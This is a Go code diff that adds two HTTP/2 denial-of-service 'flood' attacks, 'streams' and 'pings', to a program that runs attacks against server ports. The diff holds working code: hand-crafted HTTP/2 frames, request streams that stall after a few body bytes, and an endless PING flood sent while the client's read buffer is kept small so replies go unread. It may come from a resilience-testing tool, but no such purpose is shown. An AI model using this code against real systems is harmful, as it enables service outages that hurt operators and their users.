@@ -7,6 +7,7 @@ import (
 	"io"
 	"net"
 	"net/http"
+	"slices"
 	"strings"
 	"sync"
 	"time"
@@ -38,11 +39,12 @@ type floodPort struct {
 }
 
 // floodShapes are the ways to attack every port.
-var floodShapes = []string{"silent", "nearly", "expensive", "handshakes", "headers", "requests"}
+var floodShapes = []string{"silent", "nearly", "expensive", "handshakes", "headers", "requests", "streams", "pings"}
 
 // attacks run once for each caller, and return when its connection ended.
 var attacks = map[string]func(ctx context.Context, p floodPort){
 	"silent": floodSilent, "nearly": floodNearly, "expensive": floodExpensive, "handshakes": floodHandshakes, "headers": floodHeaders, "requests": floodRequests,
+	"streams": floodStreams, "pings": floodPings,
 	"busy": func(ctx context.Context, _ floodPort) { // attacks nobody, and takes the processor
 		for ctx.Err() == nil {
 		}
@@ -157,6 +159,46 @@ func floodRequests(ctx context.Context, p floodPort) {
 		}
 		_, _ = io.Copy(io.Discard, resp.Body)
 		resp.Body.Close()
+	}
+}
+
+// floodStreams begins as many requests as a connection may have, each with a few bytes of its
+// body.
+func floodStreams(ctx context.Context, p floodPort) {
+	if p.TLS {
+		p.Paths = slices.Repeat(p.Paths, 100/max(1, len(p.Paths)))
+	}
+	p.post(ctx, func(string) (io.Reader, int64) {
+		return io.MultiReader(strings.NewReader("\x00\x00\x00\x10\x00few"), stalled{ctx}), -1
+	})
+}
+
+// floodPings begins a request, and then sends pings and takes no answers.
+func floodPings(ctx context.Context, p floodPort) {
+	if !p.TLS || len(p.Paths) == 0 {
+		floodSilent(ctx, p)
+		return
+	}
+	raw, err := p.dial(ctx)
+	if err != nil {
+		return
+	}
+	defer raw.Close()
+	defer context.AfterFunc(ctx, func() { raw.Close() })()
+	if tcp, ok := raw.(*net.TCPConn); ok {
+		_ = tcp.SetReadBuffer(4 << 10) // the sooner it is full
+	}
+	conn := tls.Client(raw, whoever("h2"))
+	if conn.HandshakeContext(ctx) != nil {
+		return
+	}
+	begin := "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" +
+		"\x00\x00\x00\x04\x00\x00\x00\x00\x00" + // SETTINGS
+		"\x00\x00\x06\x01\x04\x00\x00\x00\x01\x83\x84\x87\x41\x01x" // HEADERS: POST / to x over https
+	pings := strings.Repeat("\x00\x00\x08\x06\x00\x00\x00\x00\x00pingpong", 9_000)
+	_, err = io.WriteString(conn, begin)
+	for err == nil {
+		_, err = io.WriteString(conn, pings)
 	}
 }
 
